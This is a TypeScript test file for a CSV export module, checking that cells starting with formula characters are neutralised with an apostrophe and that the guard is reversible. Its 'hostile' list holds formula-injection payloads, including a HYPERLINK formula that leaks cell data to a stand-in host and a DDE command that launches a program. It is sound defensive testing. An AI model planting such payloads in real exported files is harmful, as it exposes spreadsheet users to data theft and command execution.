import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { guard, selectRows, toCsv, unguard } from '../../../../src/exchange/csv/write-csv.ts';

const read = (csv: string) => parse(csv, { bom: true, record_delimiter: '\r\n' });

const hostile = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+44 113 000 0000',
  '-2+3+cmd|',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '"=1+1"',
  '" =1+1',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\u00A0=1+1',
  '\uFEFF=1+1',
];

const harmless = [
  '',
  'Plain words',
  'Comma, semicolon; and "quotation marks"',
  'Two\nlines',
  'Two\r\nlines',
  ' padded ',
  "'Increasing risk' drinkers",
  '1 = 1',
  'a=b',
  '2024/25',
  '1.2-05',
  '<script>alert(1)</script>',
  'naïve café – “quoted” 中文 🙂',
  '|',
  "'",
  '"',
];

test('a table has commas, CRLF after every row, and a byte order mark so that Excel reads it as UTF-8', () => {
  expect(toCsv(['id', 'text'], [['1', 'Say "yes", twice']])).toBe('\uFEFFid,text\r\n1,"Say ""yes"", twice"\r\n');
});

test('nothing is an empty cell, and a number stays as it is, below zero too', () => {
  expect(toCsv(['a', 'b', 'c', 'd'], [[undefined, null, 0, -5]])).toBe('\uFEFFa,b,c,d\r\n,,0,-5\r\n');
});

test('a table without rows is its header', () => {
  expect(toCsv(['id'], [])).toBe('\uFEFFid\r\n');
});

test('a CSV library reads back every text, and only formulas carry an apostrophe', () => {
  const rows = [...hostile, ...harmless].map((text, index) => [String(index), text, 'last']);
  const expected = rows.map(([index, text = '', last]) => [index, hostile.includes(text) ? `'${text}` : text, last]);
  expect(read(toCsv(['index', 'text', 'last'], rows))).toEqual([['index', 'text', 'last'], ...expected]);
});

test('a header that could run as a formula is guarded too', () => {
  expect(read(toCsv(['=1+1'], []))).toEqual([["'=1+1"]]);
});

describe('the apostrophe before a formula can be taken away again', () => {
  test.for([...hostile, ...harmless])('%j', (text) => {
    expect(unguard(guard(text))).toBe(text);
  });

  test('for every text of up to four of the characters that matter', () => {
    const characters = ["'", '"', ' ', '\t', '\n', '=', '-', '＝', 'a'];
    let texts = [''];
    let checked = 0;
    for (let length = 1; length <= 4; length++) {
      texts = texts.flatMap((text) => characters.map((character) => text + character));
      const faults = texts.filter((text) => unguard(guard(text)) !== text || /^\s*[=\-＝]/.test(guard(text)));
      expect(faults).toEqual([]);
      checked += texts.length;
    }
    expect(checked).toBe(9 + 9 ** 2 + 9 ** 3 + 9 ** 4);
  });
});

test('chosen rows are as they are in the whole table, in the order asked for', () => {
  const rows = [
    ['a-1', 'two\r\nlines, and a "mark"'],
    ['a-2', '=1+1'],
    ['a-3', '""'],
  ];
  const csv = toCsv(['id', 'text'], rows);
  expect(selectRows(csv, ['a-1', 'a-2', 'a-3'])).toBe(csv);
  expect(selectRows(csv, ['a-3', 'missing', 'a-1'])).toBe(toCsv(['id', 'text'], [rows[2] ?? [], rows[0] ?? []]));
  expect(selectRows(csv, [])).toBe(toCsv(['id', 'text'], []));
});
